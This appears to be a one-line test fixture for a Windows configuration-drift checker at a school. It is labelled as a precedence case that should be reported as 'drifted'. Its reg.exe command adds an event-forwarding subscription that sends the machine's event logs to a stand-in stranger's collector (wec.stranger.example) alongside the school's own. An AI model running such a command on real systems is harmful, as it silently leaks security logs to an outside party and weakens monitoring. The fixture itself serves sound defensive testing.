# Beside the school's collector another one gets everything as well.
# kind: precedence
# flips: FWD-01
# expect: drifted
reg.exe add 'HKLM\SOFTWARE\Policies\Microsoft\Windows\EventLog\EventForwarding\SubscriptionManager' /v zz /t REG_SZ /d 'Server=https://wec.stranger.example:5986/wsman/SubscriptionManager/WEC,IssuerCA=0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a' /f /reg:64
